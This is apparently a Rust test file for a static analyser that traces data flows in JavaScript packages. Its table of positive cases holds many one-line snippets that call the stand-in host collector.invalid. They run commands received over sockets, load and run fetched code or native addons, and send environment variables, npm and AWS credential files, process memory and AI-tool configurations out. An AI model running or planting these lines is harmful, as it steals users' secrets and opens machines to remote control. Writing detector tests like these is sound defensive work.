//! Ways that values take outside of variables: sockets, streams, buffers, files that are loaded.

use weir_model::contents::{SinkKind, SourceKind};

use super::installed;

use SinkKind::{DynamicCode, Http, Process, ProgramFile, Socket};
use SourceKind::{CredentialFile, Environment, Fetched, ProcessMemory};

/// What it does, source, sink, code of `index.js` after `const fs = require('fs'), os = require('os');`.
const CARRIED: &[(&str, SourceKind, SinkKind, &str)] = &[
    (
        "runs what a socket of its own says",
        Fetched,
        Process,
        "const s = new (require('net').Socket)(); s.connect(4444, 'collector.invalid'); s.on('data', d => require('child_process').exec(d.toString()))",
    ),
    (
        "evaluates what a secure socket says",
        Fetched,
        DynamicCode,
        "const tls = require('tls'), net = require('net'); const s = new tls.TLSSocket(new net.Socket()); s.on('data', d => eval(String(d)))",
    ),
    (
        "runs what a server of socket.io says",
        Fetched,
        Process,
        "const s = require('socket.io-client')('https://collector.invalid'); s.on('run', c => require('child_process').exec(c))",
    ),
    (
        "requires what it fetched",
        Fetched,
        DynamicCode,
        "fetch('https://collector.invalid/t').then(r => r.text()).then(t => { fs.writeFileSync(__dirname + '/t.js', t); require('./t.js') })",
    ),
    (
        "imports what it fetched",
        Fetched,
        DynamicCode,
        "fetch('https://collector.invalid/t').then(r => r.text()).then(t => { fs.writeFileSync('/tmp/a.mjs', t); import('/tmp/a.mjs') })",
    ),
    (
        "imports what it fetched, by an address",
        Fetched,
        DynamicCode,
        "const { pathToFileURL } = require('url'); fetch('https://collector.invalid/t').then(r => r.text()).then(t => { fs.writeFileSync('/tmp/a.mjs', t); import(pathToFileURL('/tmp/a.mjs').href) })",
    ),
    (
        "starts a worker on what it fetched",
        Fetched,
        DynamicCode,
        "const { Worker } = require('worker_threads'); fetch('https://collector.invalid/t').then(r => r.text()).then(t => { fs.writeFileSync('/tmp/w.js', t); new Worker('/tmp/w.js') })",
    ),
    (
        "requires an addon that it fetched",
        Fetched,
        ProgramFile,
        "fetch('https://collector.invalid/t').then(r => r.arrayBuffer()).then(b => { fs.writeFileSync('/tmp/t.node', Buffer.from(b)); require('/tmp/t.node') })",
    ),
    (
        "takes in an addon that it fetched",
        Fetched,
        ProgramFile,
        "fetch('https://collector.invalid/t').then(r => r.arrayBuffer()).then(b => { fs.writeFileSync('/tmp/t.node', Buffer.from(b)); process.dlopen(module, '/tmp/t.node') })",
    ),
    (
        "requires what it piped into a file",
        Fetched,
        DynamicCode,
        "require('https').get('https://collector.invalid/t', r => r.pipe(fs.createWriteStream('/tmp/t.js')).on('finish', () => require('/tmp/t.js')))",
    ),
    (
        "sends by the browser's request for Node",
        Environment,
        Http,
        "const X = require('xhr2'); const x = new X(); x.open('POST', 'https://collector.invalid'); x.send(JSON.stringify(process.env))",
    ),
    (
        "names the environment by bytes",
        Environment,
        Http,
        "const k = new TextDecoder().decode(new Uint8Array([101, 110, 118])); fetch('https://collector.invalid', { body: JSON.stringify(process[k]) })",
    ),
    (
        "reads a file of tokens into a buffer",
        CredentialFile,
        Http,
        "const fd = fs.openSync(os.homedir() + '/.npmrc', 'r'); const b = Buffer.alloc(4096); fs.readSync(fd, b, 0, 4096, 0); fetch('https://collector.invalid', { method: 'POST', body: b })",
    ),
    (
        "reads a file of keys by callbacks",
        CredentialFile,
        Http,
        "fs.open('/root/.aws/credentials', 'r', (e, fd) => fs.read(fd, Buffer.alloc(99), 0, 99, 0, (e, n, got) => fetch('https://collector.invalid', { body: got })))",
    ),
    (
        "reads a file of keys by callbacks into its own buffer",
        CredentialFile,
        Http,
        "const b = Buffer.alloc(99); fs.open('/root/.aws/credentials', 'r', (e, fd) => fs.read(fd, b, 0, 99, 0, () => fetch('https://collector.invalid', { body: b })))",
    ),
    (
        "reads a file of tokens by its handle",
        CredentialFile,
        Http,
        "(async () => { const f = await fs.promises.open('/root/.npmrc'); const b = Buffer.alloc(99); await f.read(b, 0, 99, 0); fetch('https://collector.invalid', { body: b }) })()",
    ),
    (
        "reads memory into a buffer",
        ProcessMemory,
        Http,
        "const fd = fs.openSync('/proc/1/mem', 'r'); const b = Buffer.alloc(4096); fs.readSync(fd, b, 0, 4096, 0); fetch('https://collector.invalid', { body: b })",
    ),
    (
        "reads the environment of its own process as a file",
        CredentialFile,
        Http,
        "fetch('https://collector.invalid', { body: fs.readFileSync('/proc/' + process.pid + '/environ') })",
    ),
    (
        "reads the file of tokens that npm names",
        CredentialFile,
        Http,
        "fetch('https://collector.invalid', { body: fs.readFileSync(process.env.NPM_CONFIG_USERCONFIG, 'utf8') })",
    ),
    (
        "reads an agent's configuration",
        CredentialFile,
        Http,
        "fetch('https://collector.invalid', { body: fs.readFileSync(os.homedir() + '/.config/Claude/claude_desktop_config.json') })",
    ),
    (
        "reads what an editor keeps",
        CredentialFile,
        Http,
        "fetch('https://collector.invalid', { body: fs.readFileSync(process.env.APPDATA + '/Cursor/User/globalStorage/state.vscdb') })",
    ),
    (
        "writes to a stream of HTTP/2",
        Environment,
        Http,
        "const s = require('http2').connect('https://collector.invalid').request({ ':method': 'POST' }); s.write(JSON.stringify(process.env)); s.end()",
    ),
    (
        "emits to a server of socket.io",
        Environment,
        Socket,
        "const { io } = require('socket.io-client'); const s = io('https://collector.invalid'); s.on('connect', () => s.emit('d', JSON.stringify(process.env)))",
    ),
];

fn with_modules(code: &str) -> String {
    format!("const fs = require('fs'), os = require('os'); {code}")
}

#[test]
fn carried_values_are_followed() {
    let mut wrong = String::new();
    for (says, source, sink, code) in CARRIED {
        let code = with_modules(code);
        let facts = installed(&[("index.js", &code)]);
        let found = facts
            .flows
            .iter()
            .any(|flow| flow.source == *source && flow.sink == *sink);
        if !found {
            wrong.push_str(&format!("{says}: {:?}\n", facts.flows));
        }
    }
    assert!(wrong.is_empty(), "{wrong}");
}

#[test]
fn honest_files_buffers_and_streams_stay_quiet() {
    let mut wrong = String::new();
    for (says, code) in [
        (
            "generates a list of plugins and loads it",
            "const names = fs.readdirSync(__dirname + '/plugins'); fs.writeFileSync(__dirname + '/all.js', 'module.exports = ' + JSON.stringify(names)); module.exports = require('./all.js'); fetch('https://api.example')",
        ),
        (
            "writes a compiled template and loads it",
            "fs.writeFileSync(__dirname + '/view.js', Buffer.from(text, 'base64').toString()); require('./view.js')",
        ),
        (
            "fetches data and loads it as data",
            "fetch('https://api.example/d').then(r => r.text()).then(t => { fs.writeFileSync(__dirname + '/d.json', t); console.log(require('./d.json').version) })",
        ),
        (
            "fetches one file and loads another",
            "fetch('https://api.example/d').then(r => r.text()).then(t => { fs.writeFileSync(__dirname + '/notes.js', t); require('./other.js') })",
        ),
        (
            "fetches into a cache of unknown names, and loads by unknown names",
            "exports.get = (folder, name) => fetch('https://api.example/' + name).then(r => r.text()).then(t => fs.writeFileSync(folder + '/' + name + '.js', t)); exports.load = (folder, name) => require(folder + '/' + name + '.js')",
        ),
        (
            "reads its own manifest into a buffer",
            "const fd = fs.openSync(__dirname + '/package.json'); const b = Buffer.alloc(99); fs.readSync(fd, b, 0, 99, 0); fetch('https://api.example', { body: b })",
        ),
        (
            "reads the tokens and asks only whether there are some",
            "const fd = fs.openSync(os.homedir() + '/.npmrc'); const b = Buffer.alloc(99); fs.readSync(fd, b); if (b.includes('registry')) console.log('own'); fetch('https://api.example')",
        ),
        (
            "reads some bytes of a socket",
            "const s = new (require('net').Socket)(); s.connect(80, 'api.example'); s.on('readable', () => console.log(s.read(4)))",
        ),
        (
            "asks by HTTP/2",
            "const c = require('http2').connect('https://api.example'); c.request({ ':path': '/' }).end('ping')",
        ),
        (
            "greets by socket.io",
            "require('socket.io-client')('https://api.example').emit('hello', { version: process.version })",
        ),
        (
            "reads an editor's project settings",
            "fetch('https://api.example', { body: fs.readFileSync('.vscode/settings.json') })",
        ),
    ] {
        let code = with_modules(code);
        let facts = installed(&[("index.js", &code)]);
        if !facts.flows.is_empty() {
            wrong.push_str(&format!("{says}: {:?}\n", facts.flows));
        }
    }
    assert!(wrong.is_empty(), "{wrong}");
}
